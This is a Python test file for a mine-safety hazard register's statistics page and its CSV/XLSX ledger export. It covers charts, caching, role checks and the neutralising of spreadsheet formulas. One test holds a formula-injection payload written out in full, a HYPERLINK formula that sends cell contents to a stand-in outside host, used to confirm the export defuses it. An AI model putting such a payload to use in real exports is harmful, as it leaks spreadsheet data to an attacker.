"""The statistics page (server-drawn SVG charts) and the hazard ledger export (CSV and XLSX)."""

import csv
import io
from datetime import timedelta

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session, select

from safety_service.clock import utc_now
from safety_service.console.figures import FiguresCache
from safety_service.hazards import figures
from safety_service.hazards import service as hazards_service
from safety_service.hazards.library import LibraryItem
from safety_service.hazards.schemas import HazardConfirm
from safety_service.hazards.states import Channel, Grade, HazardState, ReportType
from safety_service.locations.models import Category
from safety_service.people.models import Role
from safety_service.web import sheets
from tests.hazards.builders import make_hazard
from tests.locations.builders import make_area, make_location
from tests.people.builders import auth, make_user


def test_the_statistics_page_draws_its_charts_on_the_server(console: TestClient, session: Session,
                                                             signed_in) -> None:
    make_hazard(session, state=HazardState.rectifying, grade=Grade.major)
    make_hazard(session, source=Channel.kiosk)
    make_hazard(session, state=HazardState.closed)
    signed_in(Role.officer)
    page = console.get("/console/stats")
    assert page.status_code == 200 and page.text.count("<svg") == 6
    assert "<script" not in page.text.split("</header>")[1] and "http://" not in page.text.replace(
        "http://www.w3.org", "")
    assert "未销号隐患（按类别）" in page.text and "井口终端" in page.text and "未销号隐患（按举报类型）" in page.text


def test_the_figures_count_what_the_register_holds(session: Session, console_settings) -> None:
    before = figures.gather(session.connection(), utc_now(), console_settings.timezone)
    past = utc_now() - timedelta(days=3)
    make_hazard(session, state=HazardState.rectifying, grade=Grade.major, now=past - timedelta(days=2), deadline=past)
    make_hazard(session, source=Channel.kiosk)
    make_hazard(session, state=HazardState.closed)
    after = figures.gather(session.connection(), utc_now(), console_settings.timezone)
    assert after.open_total == before.open_total + 2 and after.overdue_now == before.overdue_now + 1
    assert sum(after.reports_by_channel["kiosk"]) == sum(before.reports_by_channel["kiosk"]) + 1
    assert sum(after.overdue_by_week) == sum(before.overdue_by_week) + 1
    assert after.closure_rate is not None and after.median_close_hours is not None


def test_the_figures_count_report_types_and_the_library_items_matched(console: TestClient, session: Session,
                                                                       console_settings, signed_in) -> None:
    before = figures.gather(session.connection(), utc_now(), console_settings.timezone)
    item = session.exec(select(LibraryItem).join(Category).where(Category.code == "roof")
                        .order_by(LibraryItem.id)).first()
    for _ in range(2):
        hazard = make_hazard(session)
        hazards_service.confirm(session, hazard=hazard, actor=make_user(session, role=Role.officer), now=utc_now(),
                                data=HazardConfirm(grade=Grade.general, category_code="roof", library_item=item.id,
                                                   report_type=ReportType.environment))
    make_hazard(session)  # not yet confirmed: no type, no item
    after = figures.gather(session.connection(), utc_now(), console_settings.timezone)
    types_before, types_after = dict(before.open_by_report_type), dict(after.open_by_report_type)
    assert types_after["environment"] == types_before.get("environment", 0) + 2
    assert types_after["none"] == types_before.get("none", 0) + 1
    assert dict(after.top_library_items)[item.title] == dict(before.top_library_items).get(item.title, 0) + 2
    signed_in(Role.officer)
    page = console.get("/console/stats")
    assert item.title in page.text.split('id="top-library-items"')[1].split("</table>")[0]
    answer = console.get("/api/v1/hazards/figures", headers=auth(make_user(session, role=Role.officer),
                                                                  console_settings)).json()
    assert {"name": item.title, "count": dict(after.top_library_items)[item.title]} in answer["top_library_items"]


def test_the_figures_cache_serves_stale_figures_while_it_refreshes() -> None:
    calls = []
    cache = FiguresCache(3600, lambda: calls.append(1) or len(calls))
    assert cache.get() == 1 and cache.get() == 1 and len(calls) == 1


def test_owners_see_no_statistics_nor_ledger(console: TestClient, signed_in) -> None:
    signed_in(Role.owner)
    assert console.get("/console/stats").status_code == 403
    assert console.get("/console/ledger").status_code == 403
    assert console.get("/console/ledger/export?from=2026-01-01&to=2026-12-31&format=csv").status_code == 403


def test_the_ledger_exports_a_range_and_area_as_csv_and_xlsx(console: TestClient, session: Session,
                                                             signed_in) -> None:
    area = make_area(session)
    assigned = make_hazard(session, state=HazardState.closed, location=make_location(session, area=area))
    make_hazard(session)  # elsewhere
    signed_in(Role.officer)
    today = utc_now().date()
    query = f"from={today - timedelta(days=1)}&to={today + timedelta(days=1)}&area={area.code}"
    answer = console.get(f"/console/ledger/export?{query}&format=csv")
    assert answer.status_code == 200 and "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["序号", "编号", "排查日期"] and "验收人" in rows[0] and len(rows) == 2
    assert rows[1][1] == assigned.ref and "补打锚杆" in rows[1] and "已销号" in rows[1]
    answer = console.get(f"/console/ledger/export?{query}&format=xlsx")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][0] == "序号" and values[2][1] == assigned.ref and values[2][11] == 1200.5
    english = console.get(f"/console/ledger/export?{query}&format=csv&lang=en").content.decode("utf-8-sig")
    assert english.startswith("No.,Reference,Found on")


def test_bad_ledger_input_shows_the_reason_beside_the_field(console: TestClient, signed_in) -> None:
    signed_in(Role.chief)
    page = console.get("/console/ledger")
    assert page.status_code == 200 and f"每次最多 {sheets.MAX_ROWS:,} 条" in page.text  # the export's real limit
    answer = console.get("/console/ledger/export?from=2026-05-01&to=2026-04-01&area=NOPE&format=pdf")
    assert answer.status_code == 422
    assert all(f'id="err-{f}"' in answer.text for f in ("to", "area")) and "截止日期不能早于起始日期" in answer.text
    assert 'id="err-from"' in console.get("/console/ledger/export?from=&to=2026-04-01&format=csv").text


def test_a_description_written_as_a_formula_reaches_the_ledger_as_text(console: TestClient, session: Session,
                                                                         signed_in) -> None:
    area = make_area(session)
    attack = '=HYPERLINK("http://203.0.113.9/?d="&A1,"查看")'
    make_hazard(session, state=HazardState.rectifying, description=attack, location=make_location(session, area=area))
    signed_in(Role.officer)
    today = utc_now().date()
    query = f"from={today - timedelta(days=1)}&to={today + timedelta(days=1)}&area={area.code}"
    rows = list(csv.reader(io.StringIO(console.get(f"/console/ledger/export?{query}&format=csv").content.decode(
        "utf-8-sig"))))
    assert rows[1][4] == "'" + attack and rows[1][11] == "1200.50"
    sheet = load_workbook(io.BytesIO(console.get(f"/console/ledger/export?{query}&format=xlsx").content)).active
    description, funds = sheet.cell(3, 5), sheet.cell(3, 12)
    assert (description.value, description.data_type) == (attack, "s") and description.quotePrefix
    assert (funds.value, funds.data_type) == (1200.5, "n")


def test_every_formula_start_leaves_the_exports_as_text_and_numbers_stay_numbers() -> None:
    texts = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "普通说明"]
    data = [[text, -3, 2.5] for text in texts]
    rows = list(csv.reader(io.StringIO(sheets.to_csv(["a", "b", "c"], data).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in texts[:-1]] + ["普通说明"]
    assert {(row[1], row[2]) for row in rows[1:]} == {("-3", "2.5")}
    sheet = load_workbook(io.BytesIO(sheets.to_xlsx(["a", "b", "c"], data, "台账"))).active
    cells = list(sheet.iter_rows(min_row=2))
    read_back = [text.replace("\r", "\n") for text in texts]  # XML reads a carriage return as a line feed
    assert [(row[0].value, row[0].data_type) for row in cells] == [(text, "s") for text in read_back]
    assert {(row[1].value, row[1].data_type, row[2].value) for row in cells} == {(-3, "n", 2.5)}


def test_a_control_character_in_stored_text_leaves_the_sheet_written_without_it() -> None:
    sheet = load_workbook(io.BytesIO(sheets.to_xlsx(["a"], [["顶板\x01离层\x1f"]], "台账"))).active
    assert sheet.cell(row=2, column=1).value == "顶板离层"
